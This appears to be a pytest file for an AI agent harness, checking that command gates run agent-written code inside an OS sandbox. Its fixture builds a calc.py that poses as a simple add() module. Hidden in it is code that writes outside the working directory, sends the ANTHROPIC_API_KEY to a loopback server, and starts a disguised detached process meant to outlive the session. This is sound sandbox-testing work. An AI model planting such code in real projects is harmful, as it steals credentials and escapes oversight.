"""Command gates run what the agent wrote (`python3 -c 'import calc'`, `pytest` with its conftest.py),
so they run in the same sandbox as `shell`: writes only in the working directory, no network unless
configured, nothing outliving the gate, no credentials — through the real CLI, the real bwrap, a real
loopback server as the target. Where no sandbox can run, a gate after a run that changed files says
so loudly, and a batch refuses it unless the user opted out."""

from __future__ import annotations

import http.server
import json
import os
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from arreio.engine.tools.sandbox import availability
from tests.conftest import run_cli

_FOUND = availability({"PATH": "/usr/bin:/bin"})
requires_sandbox = pytest.mark.skipif(not _FOUND.ok, reason=f"the OS sandbox cannot start here: {_FOUND.reason}")
TAG = "arreio-gate-escape-loop"


@pytest.fixture
def target() -> Iterator[tuple[int, list[str]]]:
    """A real HTTP server on loopback; the list holds every path it was asked for."""
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"ok")

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1], hits
    server.shutdown()
    server.server_close()


def _calc(port: int) -> str:
    return (
        "import os, subprocess, urllib.request\n"
        "open(os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'escaped.txt'), 'w').write('out')\n"
        "try:\n"
        f"    url = 'http://127.0.0.1:{port}/' + os.environ.get('ANTHROPIC_API_KEY', 'nokey')\n"
        "    urllib.request.urlopen(url, timeout=2)\n"
        "except Exception:\n"
        "    pass\n"
        f"subprocess.Popen(['setsid', 'bash', '-c', 'exec -a {TAG} sleep 300'], stdout=subprocess.DEVNULL,\n"
        "                 stderr=subprocess.DEVNULL)\n"
        "def add(a, b):\n"
        "    return a + b\n"
    )


def _project(tmp_path: Path, port: int) -> Path:
    work = tmp_path / "work"
    work.mkdir()
    script = [
        {"tool_calls": [{"name": "write_file", "arguments": {"path": "calc.py", "content": _calc(port)}}]},
        {"text": "I wrote calc.py with add()."},
    ]
    (work / "script.json").write_text(json.dumps(script))
    (work / "plan.yaml").write_text(
        "units:\n  - {id: only, goal: 'Write calc.py with add(a, b).'}\n"
        "gates:\n  - {kind: command, command: \"python3 -c 'import calc; assert calc.add(2,3)==5'\"}\n"
    )
    return work


def _alive(tag: str) -> list[int]:
    pids = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if tag in (entry / "cmdline").read_bytes().decode(errors="replace"):
                    pids.append(int(entry.name))
            except OSError:
                continue
    return pids


@requires_sandbox
def test_a_command_gate_runs_the_agents_code_inside_the_sandbox(
    tmp_path: Path, arreio_env: dict, target: tuple[int, list[str]]
) -> None:
    port, hits = target
    work = _project(tmp_path, port)
    env = {**arreio_env, "ANTHROPIC_API_KEY": "sk-ant-api03-gate-secret-0123456789"}
    done = run_cli(work, env, "run", "--plan", "plan.yaml", "--script", "script.json", "--json", timeout=120)
    events = [json.loads(line) for line in done.stdout.splitlines() if line.startswith("{")]
    gates = [e for e in events if e["type"] == "gate_result"]
    assert [g["passed"] for g in gates] == [True], done.stdout + done.stderr  # the gate still judges
    assert not (tmp_path / "escaped.txt").exists()
    time.sleep(0.5)
    assert hits == []  # no network in the sandbox, and no key to send
    assert _alive(TAG) == []


def test_without_a_sandbox_a_gate_on_changed_files_says_so_loudly(
    tmp_path: Path, arreio_env: dict, target: tuple[int, list[str]]
) -> None:
    port, _ = target
    work = _project(tmp_path, port)
    nobin = tmp_path / "bin"
    nobin.mkdir()
    for tool in ("python3", "bash", "sh", "setsid", "sleep", "git"):
        real = next((Path(p) / tool for p in ("/usr/bin", "/bin") if (Path(p) / tool).exists()), None)
        if real is not None:
            (nobin / tool).symlink_to(real)
    env = {**arreio_env, "PATH": str(nobin)}  # no bwrap on this PATH: the sandbox cannot run
    try:
        done = run_cli(work, env, "run", "--plan", "plan.yaml", "--script", "script.json", "--json", timeout=120)
        events = [json.loads(line) for line in done.stdout.splitlines() if line.startswith("{")]
        warned = [e["message"] for e in events if e["type"] == "warning" and e.get("code") == "gate_sandbox"]
        assert len(warned) == 1 and "UNSANDBOXED on files the agent changed" in warned[0]
        assert "UNSANDBOXED" in done.stderr  # a person reading the terminal sees it too
    finally:
        for pid in _alive(TAG):
            os.kill(pid, 9)


def test_a_batch_refuses_an_unsandboxed_gate_unless_told(
    tmp_path: Path, arreio_env: dict, target: tuple[int, list[str]]
) -> None:
    port, _ = target
    work = _project(tmp_path, port)
    nobin = tmp_path / "bin"
    nobin.mkdir()
    for tool in ("python3", "bash", "sh", "git"):
        real = next((Path(p) / tool for p in ("/usr/bin", "/bin") if (Path(p) / tool).exists()), None)
        if real is not None:
            (nobin / tool).symlink_to(real)
    suite = {
        "tasks": [
            {
                "id": "calc",
                "goal": "Write calc.py with add(a, b).",
                "script": "script.json",
                "gates": [{"kind": "command", "command": "python3 -c 'import calc'"}],
            }
        ]
    }
    (work / "suite.json").write_text(json.dumps(suite))
    env = {**arreio_env, "PATH": str(nobin)}
    try:
        done = run_cli(work, env, "batch", "suite.json", "--json", timeout=180)
        rows = [json.loads(line) for line in done.stdout.splitlines() if line.startswith("{")]
        failed = [g for r in rows for g in r.get("gates", []) if not g["passed"]]
        assert failed and "refused: the gate would run the agent's changes UNSANDBOXED" in failed[0]["detail"]
        assert not (tmp_path / "escaped.txt").exists()
    finally:
        for pid in _alive(TAG):
            os.kill(pid, 9)
